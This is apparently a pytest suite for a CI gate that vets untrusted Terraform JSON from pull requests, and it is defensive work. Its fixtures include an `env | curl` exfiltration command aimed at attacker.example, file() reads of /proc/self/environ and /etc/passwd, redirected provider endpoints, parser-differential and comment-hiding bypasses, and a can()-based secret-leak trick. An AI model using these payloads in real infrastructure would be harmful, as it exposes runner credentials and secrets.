"""The plan gate (review/plan_gate.py, run as .ci/plan_gate.py) as an attacker meets it.

Every shipped stack passes and comes out as the same Terraform configuration; each way a pull
request could make `terraform plan` run its code, read the runner's files, redirect requests and
credentials, read data into the plan or hide any of that from the gate (duplicate keys, list
forms, odd encodings, symlinks) is refused with a message and writes nothing."""

from __future__ import annotations

import copy
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from review import plan_gate
from review.hcl_templates import called_functions
from tests.conftest import ROOT

PLANNED = ("shared", "dev", "dev-ci", "prod", "staging")
BUCKET = "acme-litellm-terraform-state"


def without_comments(value):
    """A stack as Terraform reads it: cdktf's "//" metadata is a comment."""
    if isinstance(value, dict):
        return {key: without_comments(item) for key, item in value.items() if key != "//"}
    if isinstance(value, list):
        return [without_comments(item) for item in value]
    return value


def pull_request(stacks: dict, tmp_path: Path, **replaced: str | dict | bytes) -> Path:
    """A pull request's cdktf.out: every synthesized stack, with `replaced` ones (name -> stack,
    JSON text or raw bytes) in their place."""
    source = tmp_path / "untrusted"
    for name, stack in stacks.items():
        directory = source / "stacks" / name
        directory.mkdir(parents=True)
        body = replaced.get(name.replace("-", "_"), stack)
        if isinstance(body, dict):
            body = json.dumps(body)
        (directory / "cdk.tf.json").write_bytes(body if isinstance(body, bytes) else body.encode())
    return source


def gate(source: Path, tmp_path: Path, capsys, *extra: str) -> tuple[int, str, Path]:
    destination = tmp_path / "gated"
    status = plan_gate.main([str(source), "--out", str(destination), *extra])
    captured = capsys.readouterr()
    return status, captured.out + captured.err, destination


def refused(stacks, tmp_path, capsys, message: str, **replaced) -> str:
    status, output, destination = gate(pull_request(stacks, tmp_path, **replaced), tmp_path, capsys)
    assert status == 1, output
    assert message in output, output
    assert "Traceback" not in output
    assert not destination.exists() and not list(tmp_path.glob(".gated-*")), "a refused gate wrote something"
    return output


def test_every_planned_stack_passes_and_is_written_as_terraform_reads_it(stacks, tmp_path, capsys):
    source = pull_request(stacks, tmp_path)
    (source / "stacks" / "dev" / ".terraform.lock.hcl").write_text("# the pull request's own lock file\n")
    status, output, destination = gate(source, tmp_path, capsys)
    assert status == 0, output
    assert f"plan gate: 5 stacks pass ({', '.join(PLANNED)}); written to {destination}" in output
    assert sorted(path.name for path in (destination / "stacks").iterdir()) == sorted(PLANNED)
    lock = (ROOT / "stacks" / "terraform.lock.hcl").read_text()
    for name in PLANNED:
        directory = destination / "stacks" / name
        assert sorted(path.name for path in directory.iterdir()) == [".terraform.lock.hcl", "cdk.tf.json"]
        assert (directory / ".terraform.lock.hcl").read_text() == lock, "main's lock file, not the pull request's"
        written = json.loads((directory / "cdk.tf.json").read_text())
        assert written == without_comments(stacks[name])


def test_the_backend_is_rebuilt_from_mains_project_file(stacks, tmp_path, capsys):
    """The backend the gate writes is exactly what stacks/backend.py synthesizes for that stack."""
    status, output, destination = gate(pull_request(stacks, tmp_path), tmp_path, capsys)
    assert status == 0, output
    written = json.loads((destination / "stacks" / "dev" / "cdk.tf.json").read_text())
    assert written["terraform"]["backend"] == {"s3": {
        "bucket": BUCKET, "dynamodb_table": "litellm-terraform-locks", "encrypt": True,
        "key": "litellm/dev/terraform.tfstate", "region": "eu-west-1",
        "kms_key_id": "arn:aws:kms:eu-west-1:123456789012:alias/litellm-state-dev"}}


def test_the_state_bucket_option_names_the_backend_the_gate_requires(stacks, tmp_path, capsys):
    """--state-bucket (the older spelling) replaces the project file's bucket: stacks synthesized for
    another bucket are refused."""
    status, output, destination = gate(pull_request(stacks, tmp_path), tmp_path, capsys,
                                       "--state-bucket", "another-bucket")
    assert status == 1 and "terraform.backend: not main's backend" in output, output
    assert not destination.exists()


def test_stacks_main_does_not_plan_are_ignored(stacks, tmp_path, capsys):
    """Secrets stacks and bootstrap are never planned on a pull request: whatever they hold, the gate
    neither reads nor writes them."""
    poisoned = '{"output": {"x": {"value": "${file(\\"/proc/self/environ\\")}"}}}'
    status, output, destination = gate(pull_request(stacks, tmp_path, dev_secrets=poisoned, bootstrap="not json"),
                                       tmp_path, capsys)
    assert status == 0, output
    assert not (destination / "stacks" / "dev-secrets").exists() and not (destination / "stacks" / "bootstrap").exists()


def test_a_stack_main_plans_must_be_there(stacks, tmp_path, capsys):
    source = pull_request(stacks, tmp_path)
    shutil.rmtree(source / "stacks" / "staging")
    status, output, destination = gate(source, tmp_path, capsys)
    assert status == 1 and "stacks/staging/cdk.tf.json: missing (main plans this stack)" in output
    assert not destination.exists()


# --- Parser differentials: what Python's json and Terraform's parser would read differently ------

def hide_first(stack: dict, key: str, hidden: object) -> str:
    """The stack's text with `"key": hidden` put before the real keys: Python's json keeps the last."""
    return "{" + json.dumps(key) + ": " + json.dumps(hidden) + ", " + json.dumps(stack)[1:]


ENVIRON = '${filebase64("/proc/self/environ")}'
LOCAL_EXEC = [{"local-exec": {"command": "env | curl -d @- https://attacker.example"}}]
DIFFERENTIALS = {
    "a hidden output": lambda dev: hide_first(dev, "output", {"x": {"value": ENVIRON}}),
    "a hidden provider with endpoints": lambda dev: hide_first(
        dev, "provider", {"aws": [{"region": "eu-west-1", "endpoints": [{"sts": "https://attacker.example"}]}]}),
    "a hidden backend": lambda dev: hide_first(
        dev, "terraform", {"backend": {"s3": {"bucket": "attacker", "key": "x"}}}),
    "a hidden provisioner in a resource type that appears later": lambda dev: hide_first(
        dev, "resource", {"aws_ecs_cluster": {"x": {"name": "x", "provisioner": LOCAL_EXEC}}}),
    "a duplicate deep inside a resource": lambda dev: json.dumps(dev).replace(
        '"cpu": "2048"', '"cpu": "${file(\\"/etc/passwd\\")}", "cpu": "2048"', 1),
}


@pytest.mark.parametrize("label", list(DIFFERENTIALS))
def test_duplicate_keys_at_any_depth_are_refused(label, stacks, tmp_path, capsys):
    text = DIFFERENTIALS[label](stacks["dev"])
    assert json.loads(text) is not None  # Python alone would read it, silently
    refused(stacks, tmp_path, capsys, "duplicate key", dev=text)


ENCODINGS = {
    "NaN": (lambda text: text.replace('"min_capacity": 1', '"min_capacity": NaN', 1), "NaN is not JSON"),
    "Infinity": (lambda text: text.replace('"min_capacity": 1', '"min_capacity": -Infinity', 1),
                 "-Infinity is not JSON"),
    "an overflowing number": (lambda text: text.replace('"min_capacity": 1', '"min_capacity": 1e999', 1),
                              "number '1e999' is out of range"),
    "a list at the root": (lambda text: f"[{text}]", "the document is a JSON list, not an object"),
    "a string at the root": (lambda text: json.dumps(text), "the document is a JSON str, not an object"),
    "null at the root": (lambda text: "null", "the document is a JSON NoneType, not an object"),
    "trailing data": (lambda text: text + "{}", "not JSON: 'Extra data"),
    "a lone surrogate": (lambda text: text.replace('"name": "litellm-dev"', '"name": "litellm-dev\\ud800"', 1),
                         "a lone surrogate in a string"),
    "a lone low surrogate": (lambda text: text.replace('"name": "litellm-dev"', '"name": "litellm-dev\\udfff"', 1),
                             "a lone surrogate in a string"),
    "deep nesting": (lambda text: "[" * 100_000 + "]" * 100_000, "nested too deeply"),
}


@pytest.mark.parametrize("label", list(ENCODINGS))
def test_what_is_not_strict_json_is_refused(label, stacks, tmp_path, capsys):
    change, message = ENCODINGS[label]
    text = change(json.dumps(stacks["dev"]))
    assert text != json.dumps(stacks["dev"])
    refused(stacks, tmp_path, capsys, message, dev=text)


@pytest.mark.parametrize("encode, message", [
    (lambda text: b"\xef\xbb\xbf" + text.encode(), "starts with a byte-order mark"),
    (lambda text: text.encode("utf-16"), "not UTF-8"),
    (lambda text: text.replace('"litellm-dev"', '"litellm-d\xe9v"', 1).encode("latin-1"), "not UTF-8"),
], ids=["BOM", "UTF-16", "Latin-1"])
def test_odd_encodings_are_refused(encode, message, stacks, tmp_path, capsys):
    refused(stacks, tmp_path, capsys, message, dev=encode(json.dumps(stacks["dev"])))


# --- The allowlist, level by level -----------------------------------------------------------------

def changed(change):
    def apply(stacks: dict) -> dict:
        stack = copy.deepcopy(stacks["dev"])
        change(stack)
        return stack
    return apply


def put(*path_and_value):
    *path, value = path_and_value

    def change(stack: dict) -> None:
        target = stack
        for key in path[:-1]:
            target = target.setdefault(key, {})
        target[path[-1]] = value
    return changed(change)


def provider(**arguments):
    return changed(lambda stack: stack["provider"]["aws"][0].update(arguments))


def backend(**settings):
    return changed(lambda stack: stack["terraform"]["backend"]["s3"].update(settings))


def cluster(**arguments):
    return changed(lambda stack: stack["resource"]["aws_ecs_cluster"]["ecs_cluster"].update(arguments))


ATTACKS = {
    # Blocks that are not allowed at the top level.
    "an import block": (put("import", [{"to": "aws_ssm_parameter.x", "id": "/litellm/prod/litellm/master_key"}]),
                        "'import' not allowed here"),
    "a module": (put("module", "x", {"source": "git::https://attacker.example/m"}), "'module' not allowed here"),
    "a check block": (put("check", "c", {"data": {"http": {"x": {"url": "https://a.example"}}}}),
                      "'check' not allowed here"),
    "locals": (put("locals", {"x": "1"}), "'locals' not allowed here"),
    "a variable": (put("variable", "x", {"default": "1"}), "'variable' not allowed here"),
    "an ephemeral resource": (put("ephemeral", "aws_secretsmanager_secret_version", "x", {"secret_id": "rds!db"}),
                              "'ephemeral' not allowed here"),
    "a moved block": (put("moved", [{"from": "aws_ecs_cluster.ecs_cluster", "to": "aws_ecs_cluster.y"}]),
                      "'moved' not allowed here"),
    "a removed block": (put("removed", [{"from": "aws_ecs_cluster.ecs_cluster"}]), "'removed' not allowed here"),
    # terraform settings.
    "terraform cloud": (put("terraform", "cloud", {"organization": "attacker"}), "'cloud' not allowed here"),
    "another provider required": (put("terraform", "required_providers", "external", {"source": "hashicorp/external"}),
                                  "'external' not allowed here"),
    "a look-alike aws provider": (put("terraform", "required_providers", "aws", {"source": "evil/aws",
                                                                                 "version": "5.100.0"}),
                                  "is not hashicorp/aws with a version"),
    "a required_version that calls": (put("terraform", "required_version", ENVIRON),
                                      "terraform.required_version: calls 'filebase64'"),
    "more than source and version": (put("terraform", "required_providers", "aws", {
        "source": "hashicorp/aws", "version": "5.100.0", "configuration_aliases": ["aws.x"]}),
        "is not hashicorp/aws with a version"),
    # The backend.
    "another state bucket": (backend(bucket="someone-elses"), "terraform.backend: not main's backend"),
    "another stack's state": (backend(key="litellm/prod/terraform.tfstate"), "terraform.backend: not main's backend"),
    "a backend endpoint": (backend(endpoint="https://attacker.example"), "terraform.backend: not main's backend"),
    "a backend role": (backend(role_arn="arn:aws:iam::1:role/x"), "terraform.backend: not main's backend"),
    "a local backend": (put("terraform", "backend", {"local": {"path": "/tmp/x"}}), "not main's backend"),
    # Provider arguments that redirect requests or credentials.
    "provider endpoints": (provider(endpoints=[{"sts": "https://attacker.example"}]), "'endpoints' not allowed here"),
    "provider assume_role": (provider(assume_role=[{"role_arn": "arn:aws:iam::1:role/x"}]),
                             "'assume_role' not allowed here"),
    "provider web identity": (provider(assume_role_with_web_identity=[{"role_arn": "x"}]),
                              "'assume_role_with_web_identity' not allowed here"),
    "a proxy": (provider(http_proxy="http://attacker.example:3128"), "'http_proxy' not allowed here"),
    "a CA bundle": (provider(custom_ca_bundle="/tmp/x.pem"), "'custom_ca_bundle' not allowed here"),
    "shared config files": (provider(shared_config_files=["/proc/self/environ"]),
                            "'shared_config_files' not allowed here"),
    "skipped credential checks": (provider(skip_credentials_validation=True),
                                  "'skip_credentials_validation' not allowed here"),
    "another account": (provider(allowed_account_ids=["999999999999"]), "must be exactly the project's account"),
    "a region read from the runner": (provider(region='${file("/etc/hostname")}'), "is not a plain value"),
    "tags that read the runner": (provider(default_tags=[{"tags": {"x": ENVIRON}}]), "calls 'filebase64'"),
    "a tag value that is not a string": (provider(default_tags=[{"tags": {"x": {"y": "z"}}}]),
                                         "tag keys and values must be strings"),
    "an alias that is not a name": (changed(lambda s: s["provider"]["aws"].append({
        "alias": '${file("/etc/hostname")}', "region": "us-east-1", "allowed_account_ids": ["123456789012"]})),
        "provider.aws[1].alias"),
    "two providers with one alias": (changed(lambda s: s["provider"]["aws"].extend([{
        "alias": "edge", "region": region, "allowed_account_ids": ["123456789012"]}
        for region in ("us-east-1", "eu-west-2")])), "a second aws provider with alias edge"),
    "another provider": (put("provider", "external", [{}]), "provider 'external': only aws"),
    "a second default aws provider": (changed(lambda s: s["provider"]["aws"].append({
        "region": "us-east-1", "allowed_account_ids": ["123456789012"]})), "a second aws provider without alias"),
    # Resources.
    "a resource of another provider": (put("resource", "null_resource", "x", {}), "only hashicorp/aws resources"),
    "a provisioner": (cluster(provisioner=LOCAL_EXEC),
                      "resource.aws_ecs_cluster.ecs_cluster.provisioner: provisioner blocks run commands"),
    # Terraform reads provisioners at the top of a body only; the gate refuses the key anywhere.
    "a provisioner in a nested block": (cluster(setting=[{"name": "x", "value": "y", "provisioner": LOCAL_EXEC}]),
                                        "ecs_cluster.setting[0].provisioner: provisioner blocks run commands"),
    "a provisioner in a nested map": (cluster(configuration={"execute_command_configuration": {
        "provisioner": LOCAL_EXEC}}), "configuration.execute_command_configuration.provisioner: provisioner blocks"),
    "a connection": (cluster(connection=[{"host": "attacker.example"}]), "connection blocks run commands"),
    "a postcondition": (cluster(lifecycle=[{"postcondition": [{"condition": False, "error_message": ENVIRON}]}]),
                        "'postcondition' not allowed here"),
    "a provider alias it does not define": (cluster(provider="aws.attacker"), "is not a provider of this stack"),
    "a label that is not a name": (put("resource", "aws_ecs_cluster", "x y", {}),
                                   "resource.aws_ecs_cluster: block label 'x y' is not a name"),
    # Data sources that call out, decrypt or read data.
    "an external program": (put("data", "external", "x", {"program": ["env"]}),
                            "data source 'external' is not in the allowlist"),
    "an http request": (put("data", "http", "x", {"url": "https://a.example"}), "'http' is not in the allowlist"),
    "a runner file": (put("data", "local_file", "x", {"filename": "/proc/self/environ"}),
                      "'local_file' is not in the allowlist"),
    "a parameter value": (put("data", "aws_ssm_parameter", "x", {"name": "/litellm/prod/litellm/master_key"}),
                          "'aws_ssm_parameter' is not in the allowlist"),
    "a secret value": (put("data", "aws_secretsmanager_secret_version", "x", {"secret_id": "rds!db"}),
                       "'aws_secretsmanager_secret_version' is not in the allowlist"),
    "a decryption": (put("data", "aws_kms_secrets", "x", {"secret": [{"name": "x", "payload": "AQ=="}]}),
                     "'aws_kms_secrets' is not in the allowlist"),
    "an object body": (put("data", "aws_s3_object", "x", {"bucket": "b", "key": "k"}),
                       "'aws_s3_object' is not in the allowlist"),
    "a lambda invocation": (put("data", "aws_lambda_invocation", "x", {"function_name": "f", "input": "{}"}),
                            "'aws_lambda_invocation' is not in the allowlist"),
    "a state read": (put("data", "terraform_remote_state", "x", {"backend": "s3"}),
                     "'terraform_remote_state' is not in the allowlist"),
    "a data source with a postcondition": (put("data", "aws_elb_service_account", "y", {
        "lifecycle": [{"postcondition": [{"condition": False, "error_message": "x"}]}]}),
        "lifecycle: not allowed on a data source"),
    # Outputs.
    "an output with a precondition": (put("output", "x", {"value": "1", "precondition": [{"condition": False,
                                                                                          "error_message": "x"}]}),
                                      "'precondition' not allowed here"),
}


@pytest.mark.parametrize("label", list(ATTACKS))
def test_gate_refuses(label, stacks, tmp_path, capsys):
    attack, message = ATTACKS[label]
    refused(stacks, tmp_path, capsys, message, dev=attack(stacks))


def test_a_stack_without_outputs_passes(stacks, tmp_path, capsys):
    stack = copy.deepcopy(stacks["dev"])
    del stack["output"]
    status, output, destination = gate(pull_request(stacks, tmp_path, dev=stack), tmp_path, capsys)
    assert status == 0, output
    assert json.loads((destination / "stacks" / "dev" / "cdk.tf.json").read_text()) == without_comments(stack)


def test_an_aliased_provider_passes_and_is_written_with_its_alias(stacks, tmp_path, capsys):
    """CloudFront's certificate and WAF live in us-east-1 (example 002): a second, aliased provider
    that resources name is a legitimate stack, written back with exactly its checked arguments."""
    edge = {"alias": "us_east_1", "region": "us-east-1", "allowed_account_ids": ["123456789012"],
            "default_tags": [{"tags": {"Workspace": "dev"}}]}
    stack = copy.deepcopy(stacks["dev"])
    stack["provider"]["aws"].append(edge)
    stack["resource"]["aws_ecs_cluster"]["ecs_cluster"]["provider"] = "aws.us_east_1"
    (other_type, others), *_ = [(kind, blocks) for kind, blocks in stack["resource"].items()
                                 if kind != "aws_ecs_cluster"]
    first = next(iter(others))
    others[first]["provider"] = "aws"  # the default provider, named
    status, output, destination = gate(pull_request(stacks, tmp_path, dev=stack), tmp_path, capsys)
    assert status == 0, output
    written = json.loads((destination / "stacks" / "dev" / "cdk.tf.json").read_text())
    assert written["provider"] == {"aws": [without_comments(stacks["dev"])["provider"]["aws"][0], edge]}
    assert written["resource"]["aws_ecs_cluster"]["ecs_cluster"]["provider"] == "aws.us_east_1"
    assert written["resource"][other_type][first]["provider"] == "aws"


# --- Expressions: every string is a template ------------------------------------------------------

EXPRESSIONS = {
    "file() in an output": ('${file("/proc/self/environ")}', "'file'"),
    "a space before the parenthesis": ('${file ("/proc/self/environ")}', "'file'"),
    "a newline before the parenthesis": ('${filebase64\n("/proc/self/environ")}', "'filebase64'"),
    "inside a nested string": ('${upper("${file("/etc/passwd")}")}', "'file'"),
    "after an escaped interpolation": ('$${x} ${templatefile("/etc/passwd", {})}', "'templatefile'"),
    "templatestring": ('${templatestring(aws_ecs_cluster.ecs_cluster.name, {})}', "'templatestring'"),
    "nonsensitive": ('${nonsensitive(aws_db_instance.database_instance.master_user_secret)}', "'nonsensitive'"),
    # can() returns its true/false unmarked: a secret spelled out, one character per test (a red team's find).
    "can, which unmarks": ('${join("", [for c in split("", "abc") : c if can(regex("^${c}", sensitive("a")))])}',
                           "'can'"),
    "a provider function": ('${provider::aws::arn_parse("arn:aws:iam::1:role/x")}', "'provider::aws::arn_parse'"),
    "abspath": ('${abspath(".")}', "'abspath'"),
    "a comment hiding a call": ('${file/**/("/etc/passwd")}', "a comment inside an interpolation"),
    "a line comment": ('${1 # x\n}', "a comment inside an interpolation"),
    # Terraform reads the // comment to the line's end: a scanner that did not would take the quote in it
    # for a string's start and the call on the next line for that string's text.
    "a // comment hiding a call": ('${1 // "\nfile("/proc/self/environ") // "\n}', "a comment inside an interpolation"),
    "a heredoc": ('${<<EOT\nx\nEOT\n}', "a heredoc inside an interpolation"),
    "a directive": ('%{ if true }x%{ endif }', "a template directive"),
    "a directive after text": ('x %{ if true }y%{ endif }', "a template directive"),
    # Terraform 1.11 plans "$${${upper(\"abc\")}" as "${ABC" and reads a call right after an escaped quote.
    "an interpolation right after an escape": ('$${${file("/etc/passwd")}', "'file'"),
    "an interpolation right after an escaped quote": ('${upper("\\"${file("/etc/passwd")}")}', "'file'"),
    "a character outside ASCII": ('${ﬁle("/etc/passwd")}', "a character outside ASCII"),
    "an unclosed interpolation": ('${file("/etc/passwd")', "is not closed"),
    "an unclosed string": ('${upper("x)}', "is not closed"),
}


@pytest.mark.parametrize("label", list(EXPRESSIONS))
def test_every_string_is_read_as_the_template_terraform_reads(label, stacks, tmp_path, capsys):
    text, message = EXPRESSIONS[label]
    refused(stacks, tmp_path, capsys, message, dev=put("output", "leak", {"value": text})(stacks))


def test_a_comment_key_inside_a_map_is_a_key_like_any_other(stacks, tmp_path, capsys):
    """Terraform skips "//" only in a block's body; inside an attribute's object it is a key whose value
    Terraform evaluates."""
    refused(stacks, tmp_path, capsys, "resource.aws_ecs_cluster.ecs_cluster.tags.//: calls 'filebase64'",
            dev=cluster(tags={"//": ENVIRON})(stacks))


def test_object_keys_are_templates_too(stacks, tmp_path, capsys):
    attack = cluster(tags={ENVIRON: "x"})
    refused(stacks, tmp_path, capsys, "resource.aws_ecs_cluster.ecs_cluster.tags: calls 'filebase64'",
            dev=attack(stacks))


@pytest.mark.parametrize("text, calls", [
    ("plain text (with parentheses)", set()),
    ("${tolist(aws_subnet.a[*].id)}", {"tolist"}),
    ('$${file("x")} %%{ if }', set()),
    ('${join(",", [for s in var.x : upper(s)])}', {"join", "upper"}),
    ('${ "a ${lower("B")}" }', {"lower"}),
    ('${"\\"}" == x ? min(1) : 2}', {"min"}),
    ("${aws_lb.x.arn}-${max (1, 2)}", {"max"}),
    # Terraform 1.11 plans "$$${upper(\"abc\")}" as the text $${upper("abc")}: a $, then the escape.
    ('$$${file("x")}', set()),
], ids=["literal", "a call", "escapes", "for expression", "nested", "escaped quote", "two interpolations",
        "a dollar before an escape"])
def test_the_template_scanner_finds_every_call(text, calls):
    assert called_functions(text) == calls


# --- List forms: read, checked and written as objects ---------------------------------------------

def as_lists(stack: dict) -> dict:
    """The same stack in the list forms Terraform's JSON syntax accepts at every block level."""
    listed = copy.deepcopy(stack)
    listed["resource"] = [{kind: [{name: [body]} for name, body in by_name.items()]}
                          for kind, by_name in listed["resource"].items()]
    listed["output"] = [{name: body} for name, body in listed["output"].items()]
    listed["terraform"] = [listed["terraform"]]
    listed["provider"] = [{"aws": configuration} for configuration in listed["provider"]["aws"]]
    return listed


def test_list_forms_are_read_and_written_as_objects(stacks, tmp_path, capsys):
    status, output, destination = gate(pull_request(stacks, tmp_path, dev=as_lists(stacks["dev"])), tmp_path, capsys)
    assert status == 0, output
    assert json.loads((destination / "stacks" / "dev" / "cdk.tf.json").read_text()) == without_comments(stacks["dev"])


@pytest.mark.parametrize("label, change, message", [
    ("a provisioner inside a list-form resource", lambda s: next(
        entry for entry in s["resource"] if "aws_ecs_cluster" in entry)["aws_ecs_cluster"][0]["ecs_cluster"][0]
     .update(provisioner=LOCAL_EXEC), "provisioner blocks run commands"),
    ("endpoints in a list-form provider", lambda s: s["provider"][0]["aws"].update(endpoints=[{"s3": "https://a"}]),
     "'endpoints' not allowed here"),
    ("a resource declared twice", lambda s: s["resource"].append(copy.deepcopy(s["resource"][0])),
     "a second resource"),
    ("a number where a block belongs", lambda s: s["resource"].append(7), "a int where a block (object) belongs"),
    ("a string where a block belongs", lambda s: s.update(output="x"), "a str where a block"),
], ids=lambda value: value if isinstance(value, str) else "")
def test_list_forms_are_checked_like_objects(label, change, message, stacks, tmp_path, capsys):
    listed = as_lists(stacks["dev"])
    change(listed)
    refused(stacks, tmp_path, capsys, message, dev=listed)


# --- The directory ----------------------------------------------------------------------------------

@pytest.mark.parametrize("where", ["stacks/dev/cdk.tf.json", "stacks/dev"])
def test_symlinks_are_refused_not_followed(where, stacks, tmp_path, capsys):
    source = pull_request(stacks, tmp_path)
    path = source / where
    (shutil.rmtree if path.is_dir() else Path.unlink)(path)
    path.symlink_to("/proc/self/environ" if where.endswith(".json") else "/etc")
    status, output, destination = gate(source, tmp_path, capsys)
    assert status == 1 and f"{Path(where).name} is a symlink" in output, output
    assert not destination.exists()


def test_a_fifo_is_refused_without_blocking(stacks, tmp_path, capsys):
    source = pull_request(stacks, tmp_path)
    path = source / "stacks" / "dev" / "cdk.tf.json"
    path.unlink()
    os.mkfifo(path)
    status, output, _ = gate(source, tmp_path, capsys)
    assert status == 1 and "cdk.tf.json is not a regular file" in output, output


def test_an_existing_destination_is_refused(stacks, tmp_path, capsys):
    (tmp_path / "gated").mkdir()
    status, output, _ = gate(pull_request(stacks, tmp_path), tmp_path, capsys)
    assert status == 1 and "exists already" in output and not list((tmp_path / "gated").iterdir())


def test_findings_name_untrusted_text_escaped_and_short(stacks, tmp_path, capsys):
    """A key the attacker chose cannot start a line (GitHub reads `::` lines as workflow commands) nor fill
    the log."""
    key = "\n::add-mask::x" + "y" * 500
    output = refused(stacks, tmp_path, capsys, "not allowed here", dev=put(key, {})(stacks))
    assert not any(line.startswith("::") for line in output.splitlines())
    assert max(len(line) for line in output.splitlines()) < 400


def test_the_entry_point_runs_with_the_standard_library_only(stacks, tmp_path):
    """CI runs `python3 .ci/plan_gate.py` from main's checkout with nothing installed: -I -S keeps
    site-packages (pydantic, cdktf) out of reach."""
    source = pull_request(stacks, tmp_path)
    result = subprocess.run([sys.executable, "-I", "-S", str(ROOT / ".ci" / "plan_gate.py"), str(source),
                             "--out", str(tmp_path / "out"), "--state-bucket", BUCKET],
                            capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "plan gate: 5 stacks pass" in result.stdout
    bad = subprocess.run([sys.executable, "-I", "-S", str(ROOT / ".ci" / "plan_gate.py"), str(tmp_path / "none")],
                         capture_output=True, text=True, timeout=120)
    assert bad.returncode == 1 and "Traceback" not in bad.stderr and "missing" in bad.stderr, bad.stderr


def test_the_module_form_runs_the_gate_too(stacks, tmp_path):
    """`python -m review.plan_gate` is the gate, not a silent exit 0 (it was, with no main guard)."""
    def module_form(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "review.plan_gate", *args], capture_output=True,
                              text=True, timeout=120, cwd=ROOT)

    bad = module_form(str(tmp_path / "none"))
    assert bad.returncode == 1 and "missing" in bad.stderr and "nothing is planned" in bad.stderr, bad.stderr
    passed = module_form(str(pull_request(stacks, tmp_path)), "--state-bucket", BUCKET)
    assert passed.returncode == 0 and "plan gate: 5 stacks pass" in passed.stdout, passed.stderr


def test_a_write_that_fails_half_way_leaves_nothing(stacks, tmp_path, capsys):
    """All or nothing: when writing fails (here: main's lock file is missing), neither the destination nor
    the scratch directory it was being built in is left behind, and the failure is one line."""
    source = pull_request(stacks, tmp_path)
    status, output, destination = gate(source, tmp_path, capsys, "--lock-file", str(tmp_path / "missing.hcl"))
    assert status == 1 and "plan gate: could not check" in output and "FileNotFoundError" in output, output
    assert "Traceback" not in output and len(output.strip().splitlines()) == 2
    assert sorted(path.name for path in tmp_path.iterdir()) == ["untrusted"]


@pytest.mark.parametrize("region, partition", [("eu-west-1", "aws"), ("cn-north-1", "aws-cn"),
                                               ("us-gov-west-1", "aws-us-gov")])
def test_the_rebuilt_backend_names_the_key_in_the_regions_partition(region, partition):
    project = plan_gate.Project(name="p", account_id="123456789012", region=region, bucket="b", lock_table="t",
                                workspaces=("w",))
    assert project.backend("w") == {"s3": {
        "bucket": "b", "dynamodb_table": "t", "encrypt": True, "key": "p/w/terraform.tfstate", "region": region,
        "kms_key_id": f"arn:{partition}:kms:{region}:123456789012:alias/p-state-w"}}
    assert project.planned_stacks == ("shared", "w")


def test_the_state_bucket_option_replaces_the_project_files(tmp_path):
    (tmp_path / "project.toml").write_text((ROOT / "environments" / "project.toml").read_text())
    (tmp_path / "dev.toml").write_text("")
    (tmp_path / "notes.txt").write_text("")
    project = plan_gate.load_project(tmp_path / "project.toml", "other-bucket")
    assert (project.bucket, project.lock_table, project.workspaces) == ("other-bucket", "litellm-terraform-locks",
                                                                        ("dev",))
    assert plan_gate.load_project(tmp_path / "project.toml").bucket == BUCKET


@pytest.mark.parametrize("place, change", [
    ("a list of blocks", cluster(setting=[{"name": "containerInsights", "value": ENVIRON}])),
    ("a plain list", cluster(tags_all=None, depends_on=[ENVIRON])),
    ("a list inside a list", put("output", "leak", {"value": [["ok", ENVIRON]]})),
])
def test_strings_inside_lists_are_read_too(place, change, stacks, tmp_path, capsys):
    output = refused(stacks, tmp_path, capsys, "calls 'filebase64'", dev=change(stacks))
    if place == "a plain list":  # and the finding says where
        assert "resource.aws_ecs_cluster.ecs_cluster.depends_on[0]: calls 'filebase64'" in output


def test_the_size_limit_is_exact(stacks, tmp_path, capsys, monkeypatch):
    """A stack of exactly the limit is read; one byte more is refused before parsing."""
    largest = max(len(json.dumps(stack).encode()) for stack in stacks.values())
    text = json.dumps(stacks["dev"]).ljust(largest + 1)  # trailing whitespace: still the same JSON
    monkeypatch.setattr(plan_gate, "MAX_STACK_BYTES", len(text.encode()))
    status, output, _ = gate(pull_request(stacks, tmp_path, dev=text), tmp_path, capsys)
    assert status == 0, output
    monkeypatch.setattr(plan_gate, "MAX_STACK_BYTES", len(text.encode()) - 1)
    refused(stacks, tmp_path / "again", capsys, f"{len(text.encode())} bytes; a stack may have at most", dev=text)


def test_findings_say_where_in_the_list_form(stacks, tmp_path, capsys):
    listed = as_lists(stacks["dev"])
    listed["resource"].append(7)
    output = refused(stacks, tmp_path, capsys, "a int where a block (object) belongs", dev=listed)
    assert f"stacks/dev/cdk.tf.json: resource[{len(listed['resource']) - 1}]: a int where" in output


def test_characters_next_to_the_surrogates_are_plain_text(stacks, tmp_path, capsys):
    """U+D7FF and U+E000 border the surrogate block: ordinary characters, which pass."""
    stack = put("output", "note", {"value": "\ud7ff \ue000", "description": "\ue000"})(stacks)
    status, output, destination = gate(pull_request(stacks, tmp_path, dev=stack), tmp_path, capsys)
    assert status == 0, output
    assert json.loads((destination / "stacks" / "dev" / "cdk.tf.json").read_text())["output"]["note"] == {
        "value": "\ud7ff \ue000", "description": "\ue000"}
